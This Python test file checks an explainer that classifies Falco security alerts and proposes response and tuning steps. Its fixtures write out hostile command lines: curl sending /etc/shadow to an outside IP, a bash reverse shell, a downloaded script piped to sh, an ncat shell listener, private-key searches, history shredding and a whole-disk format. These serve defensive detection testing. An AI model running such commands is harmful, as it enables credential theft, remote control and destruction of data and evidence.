"""Entries of the first thirteen stable Falco rules: what they conclude, what they leave open, and what they propose."""

from __future__ import annotations

import json
import re
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
from support.entries import entry_of, explain, read, twin

from explainer.enrich.condition import Expr, evaluate, fields_of, parse_condition
from explainer.enrich.falco_rules import load_rules
from explainer.enrich.view import fields_view
from explainer.schema.rule import RuleFacts
from explainer.store.documents import parse_rules_text

TRAVERSAL = "Directory traversal monitored file read"
TRUSTED = "Read sensitive file trusted after startup"
UNTRUSTED = "Read sensitive file untrusted"
SHELL = "Run shell untrusted"
SYSTEM_USER = "System user interactive"
TERMINAL = "Terminal shell in container"
API = "Contact K8S API Server From Container"
NETCAT = "Netcat Remote Code Execution in Container"
KEYS = "Search Private Keys or Passwords"
LOGS = "Clear Log Activities"
WIPE = "Remove Bulk Data from Disk"
SYMLINK = "Create Symlink Over Sensitive Files"
HARDLINK = "Create Hardlink Over Sensitive Files"
RULES = (
    TRAVERSAL,
    TRUSTED,
    UNTRUSTED,
    SHELL,
    SYSTEM_USER,
    TERMINAL,
    API,
    NETCAT,
    KEYS,
    LOGS,
    WIPE,
    SYMLINK,
    HARDLINK,
)
CHOSEN = frozenset({"proc.name", "proc.cmdline", "proc.args", "proc.pname", "proc.aname", "proc.pcmdline", "proc.cwd"})


def alert_of(rule: str, fields: dict[str, Any]) -> dict[str, Any]:
    base = {"user.name": "root", "user.uid": 0, "user.loginuid": -1, "proc.tty": 0, "container.id": "4be1d0a97c35"}
    return {
        "hostname": "node-3",
        "output": f"22:24:07.000000459: Warning {rule}",
        "output_fields": {**base, **fields},
        "priority": "Warning",
        "rule": rule,
        "source": "syscall",
        "tags": [],
        "time": "2026-05-29T22:24:07.000000459Z",
    }


# --- conclusions --------------------------------------------------------------------------------


@pytest.mark.parametrize("rule", RULES)
def test_the_benign_twin_leans_benign_with_a_cause_and_is_never_sure_of_names(rule: str) -> None:
    assessment = explain(twin(rule, "benign")).assessment
    assert assessment.verdict == "benign"
    assert assessment.cause is not None
    assert not (assessment.forgeable_only and assessment.confidence == "high")


@pytest.mark.parametrize("rule", RULES)
def test_the_true_positive_twin_is_called_malicious(rule: str) -> None:
    assert explain(twin(rule, "malicious")).assessment.verdict == "malicious"


@pytest.mark.parametrize(
    ("rule", "name", "verdict", "leading"),
    [
        (TRAVERSAL, "scan", "suspicious", "file-read-through-service"),
        (TRUSTED, "steered", "malicious", "compromised-server"),
        (UNTRUSTED, "sudo", "insufficient_evidence", "administrator-at-work"),
        (UNTRUSTED, "impostor", "malicious", "credential-theft"),
        (SHELL, "discovery", "suspicious", "remote-code-execution"),
        (SYSTEM_USER, "forced-command", "insufficient_evidence", "forced-command"),
        (TERMINAL, "plain", "insufficient_evidence", "staff-session"),
        (API, "pending", "insufficient_evidence", None),
        (NETCAT, "test", "insufficient_evidence", "detection-test"),
        (KEYS, "by-hand", "insufficient_evidence", "person-looking"),
        (LOGS, "rotation", "benign", "rotation"),
        (WIPE, "version", "benign", "help-or-version"),
    ],
)
def test_further_twins_find_their_explanation(rule: str, name: str, verdict: str, leading: str | None) -> None:
    assessment = explain(twin(rule, name)).assessment
    assert (verdict, leading) == (assessment.verdict, assessment.leading)


HOSTILE: dict[str, tuple[str, dict[str, Any]]] = {
    "a service that is led out of its upload folder to harmless-looking files": (
        TRAVERSAL,
        {
            "proc.name": "php-fpm8.2",
            "proc.exepath": "/usr/sbin/php-fpm8.2",
            "proc.pname": "php-fpm8.2",
            "user.name": "www-data",
            "fd.name": "/etc/hosts",
            "fd.nameraw": "/var/www/html/uploads/../../../../etc/hosts",
        },
    ),
    "a stealer that calls itself an agent": (
        UNTRUSTED,
        {"proc.name": "osqueryd", "proc.exepath": "/tmp/osqueryd", "proc.pname": "systemd", "fd.name": "/etc/shadow"},
    ),
    "hashes sent away by curl": (
        UNTRUSTED,
        {
            "container.id": "host",
            "proc.name": "curl",
            "proc.exepath": "/usr/bin/curl",
            "proc.pname": "bash",
            "proc.cmdline": "curl --data-binary @/etc/shadow http://198.51.100.7/",
            "fd.name": "/etc/shadow",
            "proc.tty": 34816,
            "user.loginuid": 1000,
        },
    ),
    "a web server's helper that opens a reverse shell": (
        SHELL,
        {
            "proc.name": "bash",
            "proc.pname": "nginx",
            "proc.pexepath": "/usr/sbin/nginx",
            "proc.cmdline": "bash -c bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
        },
    ),
    "an archive command with something appended": (
        SHELL,
        {
            "proc.name": "sh",
            "proc.pname": "postgres",
            "proc.pexepath": "/usr/lib/postgresql/16/bin/postgres",
            "proc.cmdline": "sh -c pgbackrest archive-push pg_wal/00; curl -s http://198.51.100.9/a | sh",
        },
    ),
    "a log-in shell of a system account": (
        SYSTEM_USER,
        {
            "container.id": "host",
            "proc.name": "bash",
            "proc.exepath": "/usr/bin/bash",
            "proc.pname": "sshd-session",
            "proc.cmdline": "-bash",
            "user.name": "uucp",
            "user.uid": 10,
            "proc.tty": 34816,
        },
    ),
    "a shell that was brought into the container": (
        TERMINAL,
        {
            "proc.name": "bash",
            "proc.exepath": "/bin/bash",
            "proc.pname": "runc",
            "proc.cmdline": "bash",
            "proc.tty": 34816,
            "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        },
    ),
    "a controller's name in shared memory": (
        API,
        {
            "proc.name": "manager",
            "proc.exepath": "/dev/shm/manager",
            "proc.cmdline": "manager --leader-elect",
            "container.image.repository": "quay.io/jetstack/cert-manager-controller",
            "k8s.ns.name": "cert-manager",
        },
    ),
    "ncat that listens with a shell": (
        NETCAT,
        {"proc.name": "ncat", "proc.pname": "sh", "proc.cmdline": "ncat -lvp 9001 --sh-exec /bin/bash"},
    ),
    "grep through home folders by a service account": (
        KEYS,
        {
            "proc.name": "grep",
            "proc.pname": "sh",
            "proc.cmdline": "grep -rl BEGIN OPENSSH PRIVATE KEY /home",
            "user.name": "www-data",
            "user.uid": 33,
        },
    ),
    "a log emptied by truncate below the name of a rotation": (
        LOGS,
        {
            "container.id": "host",
            "proc.name": "truncate",
            "proc.exepath": "/usr/bin/truncate",
            "proc.pname": "logrotate",
            "proc.cmdline": "truncate -s 0 /var/log/secure",
            "fd.name": "/var/log/secure",
        },
    ),
    "a new file system over the whole disk from a script": (
        WIPE,
        {
            "container.id": "host",
            "proc.name": "mke2fs",
            "proc.exepath": "/usr/sbin/mke2fs",
            "proc.pname": "bash",
            "proc.cmdline": "mke2fs -F /dev/nvme0n1",
        },
    ),
    "histories shredded": (
        WIPE,
        {
            "container.id": "host",
            "proc.name": "shred",
            "proc.exepath": "/usr/bin/shred",
            "proc.pname": "bash",
            "proc.cmdline": "shred -u /root/.bash_history /var/log/auth.log",
            "proc.tty": 34816,
            "user.loginuid": 1000,
        },
    ),
    "a package manager's name that links a password file into a web root": (
        SYMLINK,
        {
            "proc.name": "dpkg",
            "proc.pname": "apt-get",
            "evt.arg.target": "/etc/shadow",
            "evt.arg.linkpath": "/srv/www/x",
        },
    ),
    "a backup's name that links out of the backup": (
        HARDLINK,
        {
            "container.id": "host",
            "proc.name": "rsync",
            "proc.exepath": "/usr/bin/rsync",
            "proc.pname": "rsnapshot",
            "evt.arg.oldpath": "/etc/shadow",
            "evt.arg.newpath": "/dev/shm/.x",
        },
    ),
}


@pytest.mark.parametrize(("rule", "fields"), HOSTILE.values(), ids=HOSTILE)
def test_a_borrowed_name_or_place_does_not_make_it_harmless(rule: str, fields: dict[str, Any]) -> None:
    assert explain(alert_of(rule, fields)).assessment.verdict in {"suspicious", "malicious"}


OPEN: dict[str, tuple[str, dict[str, Any]]] = {
    "a controller by image alone": (API, {"container.image.repository": "quay.io/argoproj/argocd", "proc.name": "x"}),
    "an agent's name alone": (UNTRUSTED, {"proc.name": "wazuh-syscheckd", "fd.name": "/etc/shadow"}),
    "a rotation's name alone": (LOGS, {"proc.name": "logrotate", "fd.name": "/var/log/app.log"}),
    "a storage driver's parent alone": (WIPE, {"proc.name": "mkfs", "proc.pname": "kubelet"}),
}


@pytest.mark.parametrize(("rule", "fields"), OPEN.values(), ids=OPEN)
def test_a_single_name_closes_nothing(rule: str, fields: dict[str, Any]) -> None:
    assert explain(alert_of(rule, fields)).assessment.verdict == "insufficient_evidence"


@pytest.mark.parametrize("rule", RULES)
def test_an_alert_without_fields_falls_back_to_the_default_verdict(rule: str) -> None:
    record = {**alert_of(rule, {}), "output_fields": {}}
    assert explain(record).assessment.verdict == entry_of(rule).default_verdict


@pytest.mark.parametrize("rule", RULES)
def test_the_image_name_of_the_test_tool_alone_closes_nothing(rule: str) -> None:
    record = alert_of(rule, {"container.image.repository": "falcosecurity/event-generator"})
    assert explain(record).assessment.verdict != "benign"


# --- shape --------------------------------------------------------------------------------------


@pytest.mark.parametrize("rule", RULES)
def test_an_entry_weighs_harmless_against_hostile_and_says_what_settles_it(rule: str) -> None:
    entry = entry_of(rule)
    verdicts = [hypothesis.verdict for hypothesis in entry.hypotheses]
    assert 3 <= len(verdicts) <= 7
    assert "malicious" in verdicts
    for hypothesis in entry.hypotheses:
        assert hypothesis.supports
        assert hypothesis.refutes
        assert hypothesis.settle
        if hypothesis.verdict == "benign":
            assert any(signal.decisive for signal in hypothesis.refutes), hypothesis.id
    assert entry.questions
    assert entry.unknowns
    assert entry.attack
    assert entry.not_advised
    assert entry.tuning


@pytest.mark.parametrize("rule", RULES)
def test_no_hostile_or_refuting_sign_on_a_chosen_name_is_called_unforgeable(rule: str) -> None:
    for hypothesis in entry_of(rule).hypotheses:
        hostile = hypothesis.supports if hypothesis.verdict != "benign" else ()
        for signal in (*hostile, *hypothesis.refutes):
            names = {name.split("[", 1)[0] for name in fields_of(parse_condition(signal.when))}
            assert signal.forgeable or not names & CHOSEN, signal.because


@pytest.mark.parametrize("rule", RULES)
def test_every_hypothesis_can_be_supported_by_what_alerts_of_the_rule_carry(rule: str, shared: Path) -> None:
    facts = upstream_rules(shared)[rule]
    carried = {*facts.output_fields, "k8s.ns.name", "k8s.pod.name", "fd.directory", "fd.filename"}
    carried |= {"container.id", "container.name", "container.image.repository", "container.image.tag"}
    carried |= {f"derived.{name}" for item in entry_of(rule).derive for name in re.findall(r"\?P<(\w+)>", item.pattern)}
    for hypothesis in entry_of(rule).hypotheses:
        readable = [s for s in hypothesis.supports if set(fields_of(parse_condition(s.when))) <= carried]
        assert readable, hypothesis.id


@pytest.mark.parametrize("rule", RULES)
def test_evidence_is_preserved_before_it_is_destroyed_and_changes_need_approval(rule: str) -> None:
    actions = explain(twin(rule, "malicious")).actions
    stages = [action.stage for action in actions]
    assert "investigate" in stages
    assert "preserve" in stages
    for number, action in enumerate(actions):
        if action.destroys_evidence:
            assert "preserve" in stages[:number], action.id
        if action.stage in {"contain", "eradicate"} and not action.read_only:
            assert action.needs_approval, action.id


@pytest.mark.parametrize("rule", [LOGS, WIPE, SYMLINK, HARDLINK])
def test_an_alert_of_the_host_asks_for_no_container_image(rule: str) -> None:
    assert not [u for u in explain(twin(rule, "malicious")).unknowns if "image" in u.question]


def test_a_count_for_shred_is_no_dry_run() -> None:
    fields = {"proc.name": "shred", "proc.pname": "sh", "proc.cmdline": "shred -n 1 /dev/sdb", "container.id": "host"}
    assert explain(alert_of(WIPE, fields)).assessment.leading == "sabotage"


def test_a_storage_driver_that_formats_a_further_disk_is_no_sabotage() -> None:
    fields = {
        "proc.name": "mke2fs",
        "proc.exepath": "/sbin/mke2fs",
        "proc.pname": "csi-node-driver",
        "proc.cmdline": "mke2fs -F -m0 /dev/nvme2n1",
        "container.image.repository": "registry.example.com/storage/csi-driver",
    }
    assert explain(alert_of(WIPE, fields)).assessment.leading == "volume-provisioning"


# --- tuning -------------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def _upstream_text(folder: Path) -> str:
    return (folder / "upstream" / "falco_rules.yaml").read_text(encoding="utf-8")


@lru_cache(maxsize=1)
def upstream_rules(folder: Path) -> dict[str, RuleFacts]:
    return load_rules([parse_rules_text(_upstream_text(folder), "falco_rules.yaml")]).rules


def _configs(record: dict[str, Any], facts: RuleFacts | None = None) -> list[str]:
    return [action.config for action in explain(record, facts).actions if action.stage == "tune" and action.config]


@pytest.mark.parametrize("rule", RULES)
def test_tuning_loads_after_the_upstream_file_and_silences_the_benign_twin_only(rule: str, shared: Path) -> None:
    facts = upstream_rules(shared)[rule]
    configs = _configs(twin(rule, "benign"), facts)
    assert configs, "nothing is offered"
    upstream = parse_rules_text(_upstream_text(shared), "falco_rules.yaml")
    for config in configs:
        tuned = load_rules([upstream, parse_rules_text(config, "own.yaml")]).rules[rule]
        excluded = _excluded(facts, tuned)
        assert evaluate(excluded, fields_view(read(twin(rule, "benign")))) is True
        assert evaluate(excluded, fields_view(read(twin(rule, "malicious")))) is False


def _excluded(before: RuleFacts, after: RuleFacts) -> Expr:
    """What the tuning takes out: the row of its exception, or what it appended to a macro."""
    known = {exception.name for exception in before.exceptions}
    added = next((e for e in after.exceptions if e.name not in known), None)
    if added is None:
        old = {point.name: point.condition for point in before.tuning}
        grown = next(p for p in after.tuning if p.kind == "macro" and p.condition != old.get(p.name))
        assert grown.condition is not None
        return parse_condition("(" + grown.condition.rsplit(" or (", 1)[1])
    assert isinstance(added.values, list)
    row = added.values[0]
    assert isinstance(row, list)
    parts = zip(added.fields, added.comps, row, strict=True)
    return parse_condition(" and ".join(f"{name} {comp} {json.dumps(str(value))}" for name, comp, value in parts))


@pytest.mark.parametrize("rule", RULES)
def test_no_tuning_is_offered_for_the_true_positive(rule: str) -> None:
    assert _configs(twin(rule, "malicious")) == []


# --- real alerts --------------------------------------------------------------------------------


def test_real_alerts_of_test_tools_are_led_by_the_test_and_never_hostile(shared: Path) -> None:
    seen = 0
    for path in sorted((shared / "alerts" / "falco").glob("*.json")):
        text = path.read_text(encoding="utf-8", errors="replace")
        if "event-generator" not in text:
            continue
        record = json.loads(text)
        if record.get("rule") in RULES:
            seen += 1
            assessment = explain(record).assessment
            assert assessment.leading == "detection-test", path.name
            assert assessment.verdict in {"benign", "insufficient_evidence"}, path.name
    assert seen
